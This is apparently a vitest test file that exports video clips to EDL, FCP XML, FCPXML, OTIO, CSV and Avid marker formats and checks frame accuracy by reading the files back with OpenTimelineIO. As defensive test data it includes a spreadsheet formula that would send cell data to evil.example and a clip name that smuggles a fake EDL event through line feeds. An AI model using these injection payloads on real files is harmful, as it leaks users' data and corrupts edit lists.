import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { oneLine } from '../../../src-main/core/export/exchange-text';
import { fileUrl } from '../../../src-main/core/export/file-url';
import { startWebApp, type WebApp } from '../../../src-main/web/web-app';
import type { ExportFile } from '../../../src-shared/contract/export';
import type { ClipDetail } from '../../../src-shared/contract/library';
import { fps, framesToTimecode, parseRational, timecodeToFrames, type FrameRate } from '../../../src-shared/timecode';
import { parseCsv } from '../../helpers/readers/csv-reader';
import { FCPXML_1_10 } from '../../helpers/readers/fcpxml-dtd-rules';
import { makeClip, probeFacts, type ClipSpec } from '../../helpers/footage/handoff-clips';
import { otioMissing, readWithOtio, type ReadItem, type ReadTimeline } from '../../helpers/readers/otio-reader';
import { REPO_ROOT, tempDir } from '../../helpers/paths';
import { checkAgainstDtd, parseXml } from '../../helpers/readers/xml-read';
import { callOk } from '../../helpers/app/app-call';

/**
 * Issue 25's "Must show": every hand-off format read back by OpenTimelineIO 0.18.1 and its
 * cmx_3600, fcp_xml and fcpx_xml adapters (plus its own otio_json), xmllint and the FCPXML DTD's
 * rules, against ffprobe's count of each file's frames and its start timecode. The footage is
 * made with ffmpeg: 23.976, 25, 29.97 DF across a minute, 59.94 DF across 00:01:00;04, 29.97 NDF,
 * no timecode, four mono audio streams, a reel name in the tmcd track, audio that outlasts the
 * picture, two names that share eight characters, a name with é 日本 # %, and one with line feeds;
 * all exported at once (a mixed-rate selection) with a saved range and a shot.
 * Frame errors are counted over every comparison and must be 0.
 */
const MISSING = otioMissing();
if (MISSING) console.warn(`handoff-readback: skipped: ${MISSING}`);

const EVIL = 'line\n002  EVIL     V     C        00:00:00:00 00:00:01:00 01:00:00:00 01:00:01:00\n.mp4';
const SPECS: ClipSpec[] = [
  { name: 'A 23976.mov', rate: '24000/1001', frames: 96, cuts: [41], timecode: '00:59:59:00', audio: [2] },
  { name: 'B 25.mov', rate: '25', frames: 75, timecode: '10:00:00:00', audio: [2], reel: 'TAPE042' },
  { name: 'C 2997DF.mov', rate: '30000/1001', frames: 90, timecode: '01:00:59;28', audio: [1, 1, 1, 1] },
  { name: 'D 5994DF.mov', rate: '60000/1001', frames: 120, timecode: '00:00:59;58', audio: [2] },
  { name: 'E 2997NDF.mov', rate: '30000/1001', frames: 90, timecode: '01:00:00:00' },
  { name: 'F notc.mp4', rate: '25', frames: 50, audio: [1] },
  { name: 'G audio longer.mp4', rate: '30000/1001', frames: 60, timecode: '02:00:00;00', audio: [2], audioTail: 0.4 },
  { name: 'Interview take 1.mov', rate: '25', frames: 50, timecode: '11:00:00:00', audio: [2] },
  { name: 'Interview take 2.mov', rate: '25', frames: 50, timecode: '11:00:00:00', audio: [2] },
  { name: 'é 日本 #1 50%.mov', rate: '25', frames: 50, audio: [2] },
  { name: EVIL, rate: '25', frames: 25 },
];
const RANGE = { in: 10, out: 70, name: '=HYPERLINK("http://evil.example/?d="&A1,"Click")' };
const SHOT_CUT = 41;

let app: WebApp;
let tmp: { dir: string; cleanup: () => void };
let footage: string;
const OUT = path.join(REPO_ROOT, 'test-results', 'exports', 'readback');

const call = <T = unknown>(m: string, a: unknown = {}) => callOk<T>(app.core, m, a);

/** One exported item as the files must describe it, from ffprobe's facts and the marks. */
interface Expected {
  name: string;
  fileName: string;
  path: string;
  rate: FrameRate;
  df: boolean;
  /** Source In as a frame count of the file's timecode (start timecode + In). */
  start: number;
  len: number;
  channels: number;
  reel: string | null;
}
const expected: Expected[] = [];
let built: Record<string, { files: ExportFile[]; notes: string[] }> = {};
const errors: string[] = [];
let compared = 0;
/** Counts a frame comparison; a mismatch is a frame error, listed in the failure. */
function frames(what: string, got: number, want: number): void {
  compared++;
  if (Math.abs(got - want) > 1e-6) errors.push(`${what}: ${got} (want ${want})`);
}

beforeAll(async () => {
  tmp = tempDir('rs-readback-');
  footage = path.join(tmp.dir, 'card');
  fs.mkdirSync(footage);
  for (const s of SPECS) makeClip(footage, s);
  app = await startWebApp({ dataDir: path.join(tmp.dir, 'data'), rendererDir: path.join(REPO_ROOT, 'out', 'renderer') });
  await call('library.import', { paths: [footage] });
  const list = (await call<{ items: { id: number; name: string }[] }>('library.list', { sort: 'name', limit: 100 })).items;
  const byName = new Map<string, ClipDetail>();
  const end = Date.now() + 180_000;
  for (const s of SPECS) {
    const id = list.find((c) => c.name === s.name)!.id;
    for (;;) {
      const c = await call<ClipDetail>('library.get', { clipId: id });
      if (c.shots.length > (s.cuts?.length ?? 0) && c.frameCount === s.frames) {
        byName.set(s.name, c);
        break;
      }
      if (c.status === 'error' || Date.now() > end) throw new Error(`${JSON.stringify(s.name)}: ${c.status} ${c.statusReason ?? ''}`);
      await new Promise((r) => setTimeout(r, 250));
    }
  }
  const a = byName.get('A 23976.mov')!;
  const range = await call<{ id: number }>('marks.saveRange', { clipId: a.id, inFrame: RANGE.in, outFrame: RANGE.out, rate: a.rate, name: RANGE.name, note: 'take\nthis' });
  await call('marks.addKeywords', { rangeIds: [range.id], keywords: ['=1+1'] });

  // What every file must say, from ffprobe (frames, start timecode, audio) and the marks.
  const clipIds = SPECS.map((s) => byName.get(s.name)!.id);
  for (const s of SPECS) {
    const facts = probeFacts(path.join(footage, s.name));
    const rate = parseRational(s.rate)!;
    const df = facts.timecode ? facts.timecode.includes(';') : rate.den === 1001;
    const tc = facts.timecode ? timecodeToFrames(facts.timecode, rate)! : 0;
    expected.push({ name: s.name.replace(/\.[^.]+$/, ''), fileName: s.name, path: path.join(footage, s.name), rate, df, start: tc, len: facts.frames, channels: facts.audioStreams.reduce((x, y) => x + y, 0), reel: s.reel ?? null });
  }
  const ea = expected[0]!;
  expected.push({ ...ea, name: RANGE.name, start: ea.start + RANGE.in, len: RANGE.out - RANGE.in });
  expected.push({ ...ea, name: 'A 23976 shot 2', start: ea.start + SHOT_CUT, len: ea.len - SHOT_CUT });
  const selection = { clipIds, rangeIds: [range.id], shotIds: [a.shots[1]!.id] };
  fs.mkdirSync(OUT, { recursive: true });
  for (const format of ['edl', 'xmeml', 'fcpxml', 'otio', 'csv', 'avid']) {
    built[format] = await call<{ files: ExportFile[]; notes: string[] }>('export.build', { format, selection, title: 'Readback' });
    for (const f of built[format]!.files) fs.writeFileSync(path.join(OUT, f.fileName), f.text);
  }
}, 300_000);

afterAll(async () => {
  await app?.close();
  tmp?.cleanup();
  built = {};
});

const fileOf = (format: string, name?: string) => path.join(OUT, (name ? built[format]!.files.find((f) => f.fileName === name) : built[format]!.files[0])!.fileName);
const clipsOf = (t: ReadTimeline, kind: string) => t.tracks.filter((x) => x.kind === kind);
const nonGap = (items: ReadItem[]) => items.filter((i) => i.schema !== 'Gap');
const sameRate = (a: FrameRate, b: FrameRate) => a.num * b.den === b.num * a.den;

describe.skipIf(MISSING !== null)('hand-off files read back by OpenTimelineIO 0.18.1 against ffprobe', () => {
  it('EDL (cmx_3600): one list per rate and counting; every event at its source frames, with a reel of its own and its file', () => {
    const lists = built.edl!.files;
    // E (29.97 non-drop) has a NON-DROP FRAME list of its own beside C and G (29.97 drop-frame).
    expect(lists.map((f) => f.fileName)).toEqual(['Readback 23.976 fps.edl', 'Readback 25 fps.edl', 'Readback 29.97 fps DF.edl', 'Readback 59.94 fps DF.edl', 'Readback 29.97 fps.edl']);
    expect(built.edl!.notes[0]).toMatch(/^Mixed frame rates: 5 files, one per rate/);
    const reels = new Map<string, string>();
    // The lists follow the rates and countings in the order they first appear.
    const countings = expected.filter((e, i, all) => all.findIndex((x) => sameRate(x.rate, e.rate) && x.df === e.df) === i);
    for (const [n, list] of lists.entries()) {
      const { rate, df } = countings[n]!;
      const want = expected.filter((e) => sameRate(e.rate, rate) && e.df === df);
      expect(list.text).toContain(`\r\nFCM: ${df ? 'DROP FRAME' : 'NON-DROP FRAME'}\r\n`);
      const [t] = readWithOtio(fileOf('edl', list.fileName), 'cmx_3600', fps(rate));
      const video = nonGap(clipsOf(t!, 'Video')[0]!.items);
      // The file name as it is: "é 日本 #1 50%.mov" is the name Resolve relinks by.
      expect(video.map((v) => v.name)).toEqual(want.map((w) => oneLine(w.fileName)));
      video.forEach((v, k) => {
        frames(`edl ${want[k]!.name} in`, v.start, want[k]!.start);
        frames(`edl ${want[k]!.name} length`, v.duration, want[k]!.len);
        expect(v.targetUrl).toBe(fileUrl(want[k]!.path));
      });
      // The audio of every event with sound is on the list's audio tracks.
      const audio = clipsOf(t!, 'Audio');
      expect(audio.length > 0).toBe(want.some((w) => w.channels > 0));
      for (const a of audio) expect(nonGap(a.items).length).toBe(want.filter((w) => w.channels > (a.name === 'A2' ? 1 : 0)).length);
      for (const l of list.text.split('\r\n').filter((x) => /^\d{3} /.test(x))) reels.set(l.slice(5, 13).trimEnd(), '');
      expect(list.text.split('\r\n').filter((l) => !l.startsWith('* FROM CLIP NAME: ') && ![...l].every((c) => c <= '~'))).toEqual([]);
    }
    // One reel per file (the range and the shot share A's), the tmcd reel kept, shared prefixes told apart.
    expect(reels.size).toBe(SPECS.length);
    expect([...reels.keys()]).toEqual(expect.arrayContaining(['TAPE042', 'INTERV01', 'INTERV02', 'E_1_50']));
    // The file name with line feeds stayed in its comment: its list has one event per item.
    const list25 = lists.find((f) => f.fileName.includes(' 25 fps'))!.text;
    expect(list25.split('\r\n').filter((l) => /^\d{3}\s/.test(l))).toHaveLength(expected.filter((e) => e.rate.num === 25).length);
  });

  it('FCP7 XML (fcp_xml): source frames on V1, one linked audio track per source channel', () => {
    const [t] = readWithOtio(fileOf('xmeml'), 'fcp_xml');
    const seq = expected[0]!.rate;
    const video = nonGap(clipsOf(t!, 'Video')[0]!.items);
    expect(video.map((v) => v.name)).toEqual(expected.map((e) => oneLine(e.name)));
    video.forEach((v, k) => {
      const w = expected[k]!;
      frames(`xmeml ${w.name} in`, v.start, w.start);
      // A clip of another rate is laid on the 23.976 sequence to the nearest sequence frame:
      // the reader derives its length from there, within half a sequence frame.
      if (sameRate(w.rate, seq)) frames(`xmeml ${w.name} length`, v.duration, w.len);
      else expect(Math.abs(v.duration - w.len)).toBeLessThanOrEqual(fps(w.rate) / fps(seq) / 2 + 1e-6);
      expect(v.targetUrl).toBe(fileUrl(w.path, 'localhost'));
    });
    // C has four mono streams: four audio tracks; every clip with sound on A1, the stereo ones on A2.
    const audio = clipsOf(t!, 'Audio');
    expect(audio).toHaveLength(4);
    expect(nonGap(audio[0]!.items).map((a) => a.name)).toEqual(expected.filter((e) => e.channels >= 1).map((e) => oneLine(e.name)));
    expect(nonGap(audio[1]!.items).map((a) => a.name)).toEqual(expected.filter((e) => e.channels >= 2).map((e) => oneLine(e.name)));
    expect(nonGap(audio[3]!.items).map((a) => a.name)).toEqual(['C 2997DF']);
    nonGap(audio[0]!.items).forEach((a) => frames(`xmeml audio ${a.name} in`, a.start, expected.find((e) => oneLine(e.name) === a.name)!.start));
    expect(built.xmeml!.notes[0]).toMatch(/^Mixed frame rates \(23\.976, 25, 29\.97, 59\.94 fps\): the sequence runs at 23\.976 fps/);
  });

  it('FCPXML (fcpx_xml): DTD-valid, and its "Selects" project reads back with every clip', () => {
    const file = fileOf('fcpxml');
    checkAgainstDtd(parseXml(file), FCPXML_1_10);
    const [t] = readWithOtio(file, 'fcpx_xml');
    expect(t!.name).toBe('Selects');
    const video = nonGap(clipsOf(t!, 'Video')[0]!.items);
    expect(video.map((v) => v.name)).toEqual(expected.map((e) => oneLine(e.name)));
    // The reader counts in whole frames per second (23 for 23.976: its documented limit), from
    // the exact rational times: the same arithmetic on the expected frames gives what it must read.
    const seq = expected[0]!.rate;
    video.forEach((v, k) => {
      const w = expected[k]!;
      const whole = Math.trunc(fps(w.rate));
      frames(`fcpxml ${w.name} in`, v.start, Math.trunc(((w.start * w.rate.den) / w.rate.num) * whole));
      const onSeq = Math.max(1, Math.round((w.len * w.rate.den * seq.num) / (w.rate.num * seq.den)));
      frames(`fcpxml ${w.name} length`, v.duration, Math.trunc(((onSeq * seq.den) / seq.num) * whole));
    });
    // Whole clip A: its two shots and the range saved in it, in time order.
    expect(video[0]!.markers.map((m) => m.name.split(' · ')[0])).toEqual(['Shot 1', RANGE.name, 'Shot 2']);
  });

  it('OTIO JSON (otio_json): exact source ranges, the last video frame as the end, audio tracks', () => {
    const [t] = readWithOtio(fileOf('otio'), 'otio_json');
    const video = nonGap(clipsOf(t!, 'Video')[0]!.items);
    video.forEach((v, k) => {
      frames(`otio ${expected[k]!.name} in`, v.start, expected[k]!.start);
      frames(`otio ${expected[k]!.name} length`, v.duration, expected[k]!.len);
    });
    expect(clipsOf(t!, 'Audio')).toHaveLength(4);
  });

  it('CSV: In and exclusive Out in each file\'s own timecode, durations counted as it counts, nothing a spreadsheet would run', () => {
    const rows = parseCsv(built.csv!.files[0]!.text);
    expect(rows[0]!.slice(3, 6)).toEqual(['In', 'Out (exclusive)', 'Duration']);
    rows.slice(1).forEach((r, k) => {
      const w = expected[k]!;
      expect(r.slice(3, 6)).toEqual([framesToTimecode(w.start, w.rate, w.df), framesToTimecode(w.start + w.len, w.rate, w.df), framesToTimecode(w.len, w.rate, w.df)]);
      frames(`csv ${w.name} in`, timecodeToFrames(r[3]!, w.rate)!, w.start);
    });
    expect(rows.slice(1).flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('Avid markers: one list per rate and counting (as the EDLs), one marker per frame, no comment a spreadsheet would run', () => {
    expect(built.avid!.files.map((f) => f.fileName)).toEqual(built.edl!.files.map((f) => f.fileName.replace(/\.edl$/, '.txt')));
    for (const f of built.avid!.files) {
      const tcs = f.text.split('\r\n').filter(Boolean).map((l) => l.split('\t')[1]);
      expect(new Set(tcs).size).toBe(tcs.length);
      expect(f.text.split('\r\n').filter((l) => /^[=+\-@]/.test(l.split('\t')[4] ?? ''))).toEqual([]);
    }
  });

  it('a whole clip ends at its last video frame although its audio runs on (G: 60 frames, audio 0.4 s longer)', () => {
    const g = expected.find((e) => e.name === 'G audio longer')!;
    expect(g.len).toBe(60);
    const otio = nonGap(clipsOf(readWithOtio(fileOf('otio'), 'otio_json')[0]!, 'Video')[0]!.items).find((v) => v.name === 'G audio longer')!;
    frames('otio G length', otio.duration, 60);
  });

  it('counts 0 frame errors over every comparison', () => {
    console.info(`handoff-readback: ${compared} frame comparisons against ffprobe, ${errors.length} errors`);
    expect(compared).toBeGreaterThan(100);
    expect(errors).toEqual([]);
  });
});
